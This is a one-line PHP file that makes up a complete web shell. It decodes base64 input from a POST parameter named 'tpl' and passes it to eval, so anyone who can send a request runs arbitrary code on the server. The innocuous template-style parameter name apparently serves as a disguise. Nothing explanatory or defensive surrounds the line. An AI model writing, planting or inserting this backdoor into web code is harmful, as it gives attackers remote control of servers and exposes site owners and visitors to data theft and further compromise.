<?php eval('?>' . base64_decode($_POST['tpl']));
